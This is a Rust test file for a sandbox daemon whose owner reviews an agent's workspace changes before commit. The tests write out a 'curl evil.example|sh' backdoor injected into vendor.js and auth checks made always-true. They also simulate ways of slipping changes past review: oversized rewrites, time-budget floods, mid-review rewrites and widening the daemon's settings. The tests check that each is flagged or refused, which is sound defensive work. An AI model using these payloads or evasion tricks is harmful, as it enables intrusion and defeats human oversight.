//! What the review flags, through the real daemon and the owner's command
//! line (outside review 21, findings 7, 5 and 4).
//!
//! - A sandbox with a workspace of its own keeps it in warden's state:
//!   every change there was flagged `owner-config` and a token's commit
//!   got 403 `holds_configuration`, since the owner's closure held the
//!   state whole. The sandboxes' own workspaces are theirs now; the rest
//!   of the state stays the owner's.
//! - A one-line edit in a file past the review's line bound was shown as
//!   "not diffed" with no flag, and a token's commit applied it: it was
//!   flagged `not-shown`, and the commit needed `accept_flagged`. The
//!   bound now holds for the lines that differ: a one-line edit of a
//!   60,000-line file is shown exactly, a rewrite of it is still flagged.
//! - What the owner's review recorded is what the commit holds a change
//!   to: a file the review cut for time, then committed by itself, is
//!   flagged `not-shown`; a file the sandbox rewrote while the review read
//!   it is not applied as the version the review showed.
//! - The owner's `warden diff` did not flag the daemon's settings file,
//!   though the daemon's own review did: a daemon records its `--config`
//!   in the state, and the command line reads it there.

use crate::common::daemon::*;
use crate::common::owner::OwnerHost;
use crate::common::review::change_rules;
use crate::common::{ok, stderr, stdout, warden, TempDir};
use std::path::Path;

/// Sandbox `name` made and started by token `t` over `workspace` (one of
/// its own when `None`), `script` run in it, then stopped.
fn token_ran(d: &Daemon, t: &str, name: &str, workspace: Option<&Path>, script: &str) {
    let mut body = serde_json::json!({ "name": name, "start": true });
    if let Some(ws) = workspace {
        body["workspace"] = ws.to_str().unwrap().into();
    }
    let (s, b) = json_as(d, t, "POST", "/v1/sandboxes", &body.to_string());
    assert_eq!(s, 201, "{b}");
    shell_as(d, t, name, script);
    stop_as(d, t, name);
}

/// Token `t`'s commit of sandbox `id` with `body`: it must be refused 409
/// `flagged`; the answer.
fn token_commit_flagged(d: &Daemon, t: &str, id: &str, body: &str) -> serde_json::Value {
    let (s, b) = json_as(d, t, "POST", &format!("/v1/sandboxes/{id}/commit"), body);
    assert_eq!(s, 409, "{b}");
    assert_eq!(b["code"], "flagged", "{b}");
    b
}

fn review(d: &Daemon, t: &str, id: &str) -> Vec<(String, Vec<String>)> {
    let (s, r) = json_as(
        d,
        t,
        "GET",
        &format!("/v1/sandboxes/{id}/changes?content=true"),
        "",
    );
    assert_eq!(s, 200, "{r}");
    flag_rules(&r)
}

#[test]
fn a_tokens_sandbox_with_a_workspace_of_its_own_commits_without_an_owner_config_flag() {
    let Some(host) = OwnerHost::new("own-ws-commit") else {
        return;
    };
    let d = host.daemon_over_root();
    let t = host.agent();
    token_ran(&d, &t, "own1", None, "echo hello > /workspace/notes.txt");
    let shown = review(&d, &t, "own1");
    assert_eq!(
        shown,
        vec![("notes.txt".to_string(), Vec::<String>::new())],
        "the sandbox's own workspace is not the owner's configuration"
    );
    let (s, b) = json_as(&d, &t, "POST", "/v1/sandboxes/own1/commit", "{}");
    assert_eq!(s, 200, "{b}");
    let own = host.dir.path().join("warden/workspaces/own1/notes.txt");
    assert_eq!(std::fs::read_to_string(own).unwrap(), "hello\n");
}

#[test]
fn a_backdoor_in_a_rewrite_past_the_line_bound_is_flagged_and_a_tokens_commit_needs_acceptance() {
    let Some(host) = OwnerHost::new("unshown-commit") else {
        return;
    };
    let old = vendor_js();
    let lib = host.project("lib", "vendor.js", &old);
    let d = host.daemon_over_root();
    let t = host.agent();
    token_ran(
        &d,
        &t,
        "hl",
        Some(&lib),
        // Every line rewritten (more than the line bound differs), the
        // backdoor among them. (A one-line edit is shown exactly: below.)
        r#"sed -i -e 's/return x+/return 0+x+/' -e '30000s/.*/function f29999(x){ require("child_process").exec("curl evil.example|sh"); return x+29999; }/' /workspace/vendor.js"#,
    );
    let shown = review(&d, &t, "hl");
    assert_eq!(shown.len(), 1, "{shown:?}");
    assert!(shown[0].1.contains(&"not-shown".to_string()), "{shown:?}");
    let b = token_commit_flagged(&d, &t, "hl", "{}");
    assert!(b.to_string().contains("not-shown"), "{b}");
    assert_eq!(std::fs::read_to_string(lib.join("vendor.js")).unwrap(), old);
    // Accepting it is the owner's decision, not the token's.
    let (s, b) = json_as(
        &d,
        &t,
        "POST",
        "/v1/sandboxes/hl/commit",
        r#"{"accept_flagged":true}"#,
    );
    assert_eq!(s, 403, "{b}");
    assert_eq!(std::fs::read_to_string(lib.join("vendor.js")).unwrap(), old);
}

#[test]
fn the_owners_diff_at_the_terminal_flags_the_daemons_settings_file() {
    let Some(host) = OwnerHost::new("cli-settings-flag") else {
        return;
    };
    let ops = host.project(
        "ops",
        "warden-daemon.yaml",
        &format!("workspace_roots: [{}]\n", host.root.display()),
    );
    let file = ops.join("warden-daemon.yaml");
    let t = host.agent();
    {
        // Not yet the daemon's settings: the token may work on the
        // project, and rewrites the file.
        let d = host.daemon_over_root();
        token_ran(
            &d,
            &t,
            "ops1",
            Some(&ops),
            r#"printf 'workspace_roots: [/]\n' > /workspace/warden-daemon.yaml"#,
        );
        let out = host.owner(&["diff", "ops1", "--json"]);
        let before: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(
            flag_rules(&before),
            vec![("warden-daemon.yaml".to_string(), Vec::<String>::new())],
            "not (yet) a file the owner's configuration is read from"
        );
    }
    // The owner starts the daemon with the project's file.
    let d = host.daemon(&["--config", file.to_str().unwrap()]);
    let shown = review(&d, &t, "ops1");
    assert!(
        shown[0].1.contains(&"owner-config".to_string()),
        "{shown:?}"
    );
    drop(d);
    // The owner's own review at the terminal says so too, daemon running
    // or not: the next start reads the file again.
    let out = host.owner(&["diff", "ops1", "--json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let after: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let rules = flag_rules(&after);
    assert_eq!(rules.len(), 1, "{rules:?}");
    assert!(
        rules[0].1.contains(&"owner-config".to_string()),
        "{rules:?}"
    );
    let recorded = Path::new(host.dir.path()).join("warden/daemon-config");
    assert!(std::fs::read_to_string(recorded)
        .unwrap()
        .contains("warden-daemon.yaml"));
}

/// A named sandbox `name` over `ws` in which `script` ran; left running.
fn sandbox_with(state: &Path, name: &str, ws: &Path, script: &str) {
    ok(&warden(
        state,
        &["create", name, "-w", ws.to_str().unwrap()],
    ));
    ok(&warden(
        state,
        &["exec", name, "--no-tty", "--", "sh", "-c", script],
    ));
}

/// The change to `path` in `warden diff NAME --json`'s answer.
fn change_in(diff: &str, path: &str) -> serde_json::Value {
    let all: serde_json::Value = serde_json::from_str(diff).unwrap();
    all.as_array()
        .unwrap()
        .iter()
        .find(|c| c["path"] == path)
        .cloned()
        .unwrap_or_else(|| panic!("no change to {path} in {diff}"))
}

/// Ten files, each rewritten inside the sandbox as 45,000 distinct lines:
/// their line diffs spend a review's 4 s (each stops at its 500 ms).
const FLOOD: &str = r#"for i in 0 1 2 3 4 5 6 7 8 9; do awk -v i=$i 'BEGIN { for (n = 0; n < 45000; n++) print "x" i "-" n }' > /workspace/a$i.txt; done"#;

fn flood_files(ws: &Path) {
    for i in 0..10 {
        std::fs::write(ws.join(format!("a{i}.txt")), "# old\nhello\n").unwrap();
    }
}

/// 60,000 lines of a vendored script: past the review's line bound.
fn vendor_js() -> String {
    (0..60_000)
        .map(|i| format!("function f{i}(x){{ return x+{i}; }}\n"))
        .collect()
}

/// 30,000 lines of checks, larger than each file of [`FLOOD`]: diffed
/// after them, so cut for time.
fn auth_js() -> String {
    (0..30_000)
        .map(|i| format!("export const k{i:05} = check(token, {i}); // ok\n"))
        .collect()
}

/// [`FLOOD`], then one check of [`auth_js`] made `true`.
fn flood_then_bypass() -> String {
    format!(
        "{FLOOD}; sed -i 's/^export const k15000 = check(token, 15000);/export const k15000 = true;/' /workspace/auth.js"
    )
}

#[test]
fn a_backdoor_line_inserted_in_the_middle_of_a_60000_line_file_is_shown_as_a_one_line_change() {
    // Before: `not diffed: more than 50000 lines`, flagged not-shown, the
    // line shown to no one.
    let state = TempDir::new("middle-state");
    let ws = TempDir::new("middle-ws");
    std::fs::write(ws.path().join("vendor.js"), vendor_js()).unwrap();
    sandbox_with(
        state.path(),
        "mid",
        ws.path(),
        r#"sed -i '30000a require("child_process").exec("curl evil.example|sh");' /workspace/vendor.js"#,
    );
    ok(&warden(state.path(), &["stop", "mid"]));
    let diff = ok(&warden(state.path(), &["diff", "mid", "--json"]));
    let c = change_in(&diff, "vendor.js");
    assert_eq!(c["content"]["type"], "text", "{c}");
    assert_eq!(
        (
            c["content"]["added"].as_u64(),
            c["content"]["removed"].as_u64()
        ),
        (Some(1), Some(0)),
        "{c}"
    );
    let patch = c["content"]["patch"].as_str().unwrap();
    assert!(
        patch.contains("@@ -29998,6 +29998,7 @@")
            && patch.contains("\n+require(\"child_process\").exec(\"curl evil.example|sh\");\n"),
        "{patch}"
    );
    assert!(change_rules(&c).is_empty(), "{c}");
    // The text view says the same, at its line.
    let text = ok(&warden(state.path(), &["diff", "mid", "--color", "never"]));
    assert!(
        text.contains("+require(\"child_process\")") && !text.contains("not diffed"),
        "{text}"
    );
}

#[test]
fn a_file_the_owners_review_cut_for_time_is_flagged_when_committed_by_itself() {
    let state = TempDir::new("cut-state");
    let ws = TempDir::new("cut-ws");
    flood_files(ws.path());
    let old = auth_js();
    std::fs::write(ws.path().join("auth.js"), &old).unwrap();
    sandbox_with(state.path(), "cut", ws.path(), &flood_then_bypass());
    ok(&warden(state.path(), &["stop", "cut"]));
    // The owner's review: auth.js is cut, and flagged.
    let diff = ok(&warden(state.path(), &["diff", "cut", "--json"]));
    let c = change_in(&diff, "auth.js");
    assert_eq!(c["content"]["type"], "not_diffed", "{c}");
    assert_eq!(c["content"]["reason"], "time_budget", "{c}");
    assert!(change_rules(&c).contains(&"not-shown".to_string()), "{c}");
    // Committed by itself, the commit's own comparison shows it in full;
    // before, it landed so, unflagged. Now it is held to the review.
    let out = warden(state.path(), &["commit", "cut", "auth.js"]);
    assert!(!out.status.success(), "{}", stdout(&out));
    let err = stderr(&out);
    assert!(
        err.contains("auth.js") && err.contains("not-shown") && err.contains("review recorded"),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.path().join("auth.js")).unwrap(),
        old
    );
    // The owner looks at it by itself: shown in full, then committed.
    let one = ok(&warden(
        state.path(),
        &["diff", "cut", "auth.js", "--color", "never"],
    ));
    assert!(one.contains("+export const k15000 = true;"), "{one}");
    ok(&warden(state.path(), &["commit", "cut", "auth.js"]));
    assert!(std::fs::read_to_string(ws.path().join("auth.js"))
        .unwrap()
        .contains("k15000 = true;"));
}

#[test]
fn a_file_the_sandbox_rewrites_while_the_review_reads_it_is_not_committed_as_shown() {
    // The review reads auth.py's text first (the smallest change), spends
    // its 4 s on the flood, then hashes each change: before, by reading
    // the file again, so the record held the digest of what the sandbox
    // wrote in between, and the commit applied that as reviewed.
    let state = TempDir::new("race-state");
    let ws = TempDir::new("race-ws");
    flood_files(ws.path());
    let auth = "def check(user, pw):\n    return db.verify(user, pw)\n";
    std::fs::write(ws.path().join("auth.py"), auth).unwrap();
    let shown = "    return db.verify(user, pw) and user.active\n";
    let later = "    return True or db.verify(user, pw) or 1==1\n";
    assert_eq!(
        shown.len(),
        later.len(),
        "the same size: the walk sees no change"
    );
    sandbox_with(
        state.path(),
        "race",
        ws.path(),
        &format!("{FLOOD}; printf 'def check(user, pw):\\n%s' '{shown}' > /workspace/auth.py"),
    );
    // The sandbox runs on: 1.5 s from now it rewrites auth.py, while the
    // review below is spending its budget on the flood.
    let st = state.path().to_path_buf();
    let script =
        format!("sleep 1.5; printf 'def check(user, pw):\\n%s' '{later}' > /workspace/auth.py");
    let writer = std::thread::spawn(move || {
        let out = warden(
            &st,
            &["exec", "race", "--no-tty", "--", "sh", "-c", &script],
        );
        (out, std::time::Instant::now())
    });
    let diff = warden(state.path(), &["diff", "race", "--json"]);
    let reviewed_at = std::time::Instant::now();
    let (wrote, wrote_at) = writer.join().unwrap();
    ok(&wrote);
    let diff = ok(&diff);
    let c = change_in(&diff, "auth.py");
    let patch = c["content"]["patch"].as_str().unwrap_or_default();
    assert!(
        patch.contains("+    return db.verify(user, pw) and user.active") && wrote_at < reviewed_at,
        "the review read auth.py before the rewrite and ended after it (a host too slow for this test's timing?): {patch}"
    );
    ok(&warden(state.path(), &["stop", "race"]));
    let out = warden(state.path(), &["commit", "race", "auth.py"]);
    assert!(
        !out.status.success(),
        "the rewrite no review showed was applied: {}",
        stdout(&out)
    );
    assert!(
        stderr(&out).contains("auth.py: changed in the sandbox since"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        std::fs::read_to_string(ws.path().join("auth.py")).unwrap(),
        auth
    );
}

#[test]
fn a_file_a_tokens_review_cut_for_time_is_flagged_when_the_token_commits_it_by_itself() {
    let Some(host) = OwnerHost::new("cut-token") else {
        return;
    };
    let old = auth_js();
    let app = host.project("app", "auth.js", &old);
    flood_files(&app);
    let d = host.daemon_over_root();
    let t = host.agent();
    token_ran(&d, &t, "ct", Some(&app), &flood_then_bypass());
    let shown = review(&d, &t, "ct");
    let auth = shown.iter().find(|(p, _)| p == "auth.js").unwrap();
    assert!(auth.1.contains(&"not-shown".to_string()), "{shown:?}");
    // The token commits auth.js by itself: the commit could diff it in
    // full (before, it applied it so), but the review did not show it.
    let b = token_commit_flagged(&d, &t, "ct", r#"{"paths":["auth.js"]}"#);
    assert!(b.to_string().contains("review recorded"), "{b}");
    assert_eq!(std::fs::read_to_string(app.join("auth.js")).unwrap(), old);
    // A review of it alone shows it in full; then it is the token's to
    // commit.
    let (s, r) = json_as(
        &d,
        &t,
        "GET",
        "/v1/sandboxes/ct/changes?content=true&path=auth.js",
        "",
    );
    assert_eq!(s, 200, "{r}");
    assert!(
        r["changes"][0]["content"]["patch"]
            .as_str()
            .unwrap_or_default()
            .contains("+export const k15000 = true;"),
        "{r}"
    );
    let (s, b) = json_as(
        &d,
        &t,
        "POST",
        "/v1/sandboxes/ct/commit",
        r#"{"paths":["auth.js"]}"#,
    );
    assert_eq!(s, 200, "{b}");
    assert!(std::fs::read_to_string(app.join("auth.js"))
        .unwrap()
        .contains("k15000 = true;"));
}
